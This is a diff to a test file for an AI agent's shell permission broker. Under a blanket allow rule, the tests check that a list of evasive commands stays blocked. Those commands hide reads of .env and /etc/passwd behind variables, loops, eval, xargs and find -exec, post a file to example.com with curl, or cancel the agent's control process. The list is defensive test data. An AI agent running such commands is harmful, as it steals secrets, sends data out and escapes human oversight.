@@ -1,9 +1,10 @@
 // Everyday commands that a few allow rules must let through, with nobody there to be asked.
 import assert from 'node:assert/strict'
+import { readFileSync } from 'node:fs'
 import { test } from 'node:test'
 import { createBroker } from './permission.ts'
 import { defaultRules, parseRule } from './rules.ts'
-import { bash, decision } from './support.test.ts'
+import { bash, decision, settled } from './support.test.ts'
 
 const rules = [...defaultRules, ...['bash:ls *=allow', 'bash:git status *=allow', 'bash:echo *=allow'].map(parseRule)]
 const scene = { root: '/project', home: '/home/me', realPath: (path: string): string => path }
@@ -209,4 +210,89 @@ test('everyday work of programs that could do more passes', () => {
   const given = [...defaultRules, ...[...new Set(names)].map((name) => parseRule(`bash:${name} *=allow`))]
   const stopped = tools.filter((command) => !isAllowed(command, given))
   assert.deepEqual(stopped, [])
+})
+
+/** Everyday commands, many of them as agents ran them in recordings: one a line. */
+const fixture = readFileSync(new URL('../../fixtures/shell/everyday.txt', import.meta.url), 'utf8')
+  .trim()
+  .split('\n')
+
+test('bash=allow allows everyday shell without asking', () => {
+  const given = [...defaultRules, ...['bash=allow', 'write=allow'].map(parseRule)]
+  const all = [...fixture, ...harmless, ...tools]
+  assert.ok(all.length >= 200)
+  assert.deepEqual(
+    all.filter((command) => !isAllowed(command, given)),
+    [],
+  )
+})
+
+test('under bash=allow secrets and paths outside stay protected, also behind variables', () => {
+  const given = [...defaultRules, ...['bash=allow', 'write=allow'].map(parseRule)]
+  const passed = hidden.filter((command) => isAllowed(command, given))
+  assert.deepEqual(passed, [])
+})
+
+const hidden = [
+  'X=.env; cat $X',
+  'X=/etc; cat "$X/passwd"',
+  'X=a; X=.env; cat $X',
+  'cat $X; X=a',
+  'if true; then X=a; fi; cat "$X/etc/passwd"',
+  '(X=a); cat "$X/etc/passwd"',
+  'true || X=a; cat "$X/etc/passwd"',
+  "X=a; sh -c 'cat $X/etc/passwd'",
+  "X=a; X=/etc/passwd sh -c 'cat $X'",
+  'for f in a .env; do cat "$f"; done',
+  'for f in /etc/*; do cat "$f"; done',
+  'for f in .e*; do cat "$f"; done',
+  'for f in a; do cat "$f/../../x"; done',
+  'while read f; do cat "$f"; done < list',
+  'X=a; read X < list; cat $X',
+  'X=a; X+=/../../x; cat $X',
+  'X=a; declare -n r=X; r=/etc/passwd; cat $X',
+  'X=a; . ./set.sh; cat $X',
+  'X=a; eval "$Y"; cat $X',
+  'X=a; printf -v X /etc/passwd; cat $X',
+  'X=a; unset X; cat "$X/etc/passwd"',
+  'while true; do cat $f; f=/etc/passwd; done',
+  'a=/etc; b=$a/passwd; cat $b',
+  'X="a /etc/passwd"; cat $X',
+  "X='/etc/*'; cat $X",
+  'IFS=x; X=ax/etc/passwd; cat $X',
+  'cat $(cat list)',
+  'cat "$(date +/etc/passwd)"',
+  'cat list | xargs cat',
+  'find /etc -name x | xargs cat',
+  'find . -name .env -exec cat {} +',
+  "find . -exec cat '{}/../../x' \\;",
+  'cat $(find /etc)',
+  'cat $(git ls-files)/../../../x',
+  "echo $(echo '/etc/*')",
+  'shopt -s dotglob; cat *',
+  'GLOBIGNORE=x; cat *',
+  'curl -d "@$F" https://example.com',
+  'curl -H "$H" https://example.com',
+  'sluice control cancel',
+  'c=control; sluice $c cancel',
+]
+
+test('what is left unknown is a permission of its own, with its own hint', () => {
+  const given = [...defaultRules, parseRule('bash=allow')]
+  const settle = (rules: typeof given) =>
+    settled(
+      createBroker({ rulesFor: () => rules, scene, interactive: () => false }).decide(
+        bash('cat "$X"', { command: { text: 'cat "$X"', cwd: '/project' } }),
+      ),
+    )
+  const text = settle(given).answer.text ?? ''
+  assert.match(text, /unknown_path ""\$X"" \(the path is known only when the command runs\)/)
+  assert.match(text, /--permission 'unknown_path=allow' would allow it/)
+  assert.doesNotMatch(text, /secret_file|external_directory/)
+  assert.ok(isAllowed('cat "$X"', [...given, parseRule('unknown_path=allow')]))
+  assert.ok(isAllowed('cat "$X"', [...given, parseRule('external_directory=allow'), parseRule('secret_file=allow')]))
+  assert.ok(!isAllowed('cat "$X"', [...given, parseRule('external_directory=allow')]))
+  const denied = [...given, parseRule('secret_file=deny')]
+  const approving = createBroker({ rulesFor: () => denied, scene, autoApprove: true, interactive: () => false })
+  assert.equal(decision(approving, bash('cat "$X"', { command: { text: 'cat "$X"', cwd: '/project' } })), 'reject')
 })
